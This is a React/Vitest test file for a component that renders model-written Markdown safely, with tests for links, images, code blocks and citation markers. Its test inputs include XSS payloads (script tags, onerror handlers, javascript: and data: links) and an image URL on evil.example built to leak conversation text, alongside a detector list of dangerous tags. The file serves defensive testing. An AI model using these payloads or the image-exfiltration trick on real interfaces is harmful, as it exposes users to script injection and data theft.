import { cleanup, render, screen } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import fc from 'fast-check';
import { afterEach, describe, expect, it, vi } from 'vitest';
import type { Citation } from '../api/types';
import { CitationProvider } from './citationContext';
import { MarkdownText } from './MarkdownText';

afterEach(cleanup);

function show(text: string) {
  return render(<MarkdownText text={text} streaming={false} />).container;
}

const HARMFUL = 'script, style, iframe, object, embed, img, video, audio, form, link, meta, base, svg image';

/** What could run, load or lead anywhere unsafe in a document. */
function findHarm(container: HTMLElement): string[] {
  const harm = [...container.querySelectorAll(HARMFUL)].map(({ tagName }) => tagName);
  for (const element of container.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      if (name.startsWith('on') || name === 'srcdoc' || name === 'src') harm.push(`${name}=${value}`);
      if (name === 'href' && !/^(https?:\/\/|mailto:)/.test(value)) harm.push(`${name}=${value}`);
    }
  }
  return harm;
}

describe('Markdown from a model', () => {
  it('shows raw HTML as the text that it is', () => {
    const container = show('<script>alert(1)</script>\n\nA <b onclick="x()">bold</b> <img src=x onerror=alert(1)> word');
    expect(findHarm(container)).toEqual([]);
    expect(container.textContent).toContain('<script>alert(1)</script>');
    expect(container.textContent).toContain('<b onclick="x()">bold</b>');
  });

  it.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java\nscript:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](vbscript:x)',
    '[x](file:///etc/passwd)',
    '[x](/api/session)',
    '[x](//evil.example)',
    '[x](#main)',
    '<javascript:alert(1)>',
    '![x](javascript:alert(1))',
    '[x][1]\n\n[1]: javascript:alert(1)',
  ])('leaves no link in %s', markdown => {
    const container = show(markdown);
    expect(container.querySelector('a')).toBeNull();
    expect(findHarm(container)).toEqual([]);
  });

  it('opens links apart, without telling where they came from', () => {
    show('[docs](https://example.com/a) and <mailto:me@example.com>');
    const link = screen.getByRole('link', { name: 'docs' });
    expect(link.getAttribute('href')).toBe('https://example.com/a');
    expect(link.getAttribute('target')).toBe('_blank');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(screen.getAllByRole('link')).toHaveLength(2);
  });

  it('loads no image: it shows its address as a link', () => {
    const container = show('![secret](https://evil.example/?q=conversation)');
    expect(container.querySelector('img')).toBeNull();
    const link = screen.getByRole('link');
    expect(link.getAttribute('href')).toBe('https://evil.example/?q=conversation');
    expect(link.textContent).toContain('https://evil.example/?q=conversation');
  });

  it('puts no link into a link for an image inside of one', () => {
    const container = show('[![badge](https://evil.example/b.png)](https://example.com)');
    expect(container.querySelectorAll('a')).toHaveLength(1);
    expect(findHarm(container)).toEqual([]);
  });

  it('closes what the model left open', () => {
    const container = show('Text\n\n```html\n<script>alert(1)</script>\n**not bold**');
    expect(container.querySelector('pre')?.textContent).toContain('<script>alert(1)</script>');
    expect(container.querySelector('strong')).toBeNull();
    expect(findHarm(container)).toEqual([]);
  });

  it('stays harmless for any mixture', () => {
    const piece = fc.constantFrom(
      ...['<script>', '</script>', '<img src=x onerror=y>', '[a](', 'javascript:x', ')', '![', ']', '(', '```', '\n\n'],
      ...['<a href="javascript:x">', '<!--', '-->', '<![CDATA[', '| a |', '\n|-|\n', '&lt;', '<svg onload=x>', '`', '\n'],
      ...['https://e.example', '[^1]', '[^1]: ', '<style>*{}</style>', '[1]', '<iframe src=x>', '*', '- '],
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 14 }), pieces => {
        const container = show(pieces.join(''));
        expect(findHarm(container)).toEqual([]);
        cleanup();
      }),
      { numRuns: 150 },
    );
  });

  it('renders tables, tasks and line breaks in cells', () => {
    show('| a | b |\n|---|---|\n| 1<br>2 | 3 |\n\n- [x] done');
    expect(screen.getByRole('table')).toBeTruthy();
    expect(screen.getAllByRole('cell')[0]?.querySelector('br')).toBeTruthy();
    expect(screen.getByRole<HTMLInputElement>('checkbox', { name: 'Done' }).disabled).toBe(true);
  });

  it('highlights code once the highlighter is there, and copies the plain code', async () => {
    const container = show('```python\nprint("hi")\n```');
    await vi.waitFor(() => expect(container.querySelector('.hljs-string')?.textContent).toBe('"hi"'));
    const user = userEvent.setup();
    await user.click(screen.getByRole('button', { name: 'Copy code' }));
    expect(await navigator.clipboard.readText()).toBe('print("hi")');
  });
});

describe('citation markers', () => {
  const citation: Citation = { index: 1, title: 'Docs', locator: null, snippet: null, document_id: null };

  it('open their source, and stay text where there is none', async () => {
    const open = vi.fn();
    const { container } = render(
      <CitationProvider value={{ byIndex: new Map([[1, citation]]), open }}>
        <MarkdownText text={'Known [1], unknown [2], code `a[1]`.'} streaming={false} />
      </CitationProvider>,
    );
    await userEvent.click(screen.getByRole('button', { name: 'Source 1: Docs' }));
    expect(open).toHaveBeenCalledWith(citation);
    expect(screen.getAllByRole('button')).toHaveLength(1);
    expect(container.textContent).toContain('unknown [2]');
    expect(container.querySelector('code')?.textContent).toBe('a[1]');
  });

  it('name the section too', () => {
    render(
      <CitationProvider value={{ byIndex: new Map([[1, { ...citation, locator: 'Start › Run' }]]), open: vi.fn() }}>
        <MarkdownText text="Known [1]." streaming={false} />
      </CitationProvider>,
    );
    expect(screen.getByRole('button', { name: 'Source 1: Docs · Start › Run' })).toBeTruthy();
  });
});
